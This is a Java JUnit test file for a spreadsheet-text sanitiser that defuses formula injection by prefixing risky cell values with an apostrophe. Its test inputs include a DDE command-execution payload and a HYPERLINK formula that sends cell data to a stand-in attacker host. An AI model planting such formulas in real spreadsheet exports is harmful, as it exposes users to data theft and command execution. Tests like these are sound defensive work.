package io.beacon.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetTextTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "\t=1",
        "\tharmless",
        "\rharmless",
        "\nharmless",
        "  \t x",
        " =1",
        "    +1",
        "\u00a0=1",
        "\u3000=1",
        "\u2003 @x",
        "\ufeff=1",
        "\ufeff\ufeff -1",
        "\u200b=1",
        "\u202e=1",
        "\u0000=1",
        "\u0001\u007f=1",
        "\u0085=1",
        "\u000b=1",
        "\u2028=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        " \uff1d1",
        "\ufe661",
        "\ufe621",
        "\ufe631",
        "\ufe6bx",
        "\u22121",
        "\udb40\udc01=1",
      })
  void of_whatCouldRun_beginsWithAnApostrophe(String text) {
    assertThat(SpreadsheetText.of(text)).isEqualTo("'" + text.replace('\u0000', '\ufffd'));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "   ",
        "x=1",
        "https://shop.example/?a=1+1-2@3",
        "'=1",
        "\"=1",
        "{\"a\": \"=1\"}",
        "1-1",
        " x\t",
        "\uD83D\uDCA5=1",
        "\u00e9=",
        "_=1"
      })
  void of_otherText_isItself(String text) {
    assertThat(SpreadsheetText.of(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\ud83d", "\udca5a", "a\ud83da", "a\u0000", "\ud83d\ud83d"})
  void of_whatNoReaderTakes_isReplaced(String text) {
    assertThat(SpreadsheetText.of(text))
        .isEqualTo(text.replaceAll("[\\x00\\p{Cs}]", "\ufffd"))
        .doesNotContain("\u0000", "\ud83d", "\udca5");
  }

  @ParameterizedTest
  @NullSource
  void of_null_isNull(String text) {
    assertThat(SpreadsheetText.of(text)).isNull();
  }
}
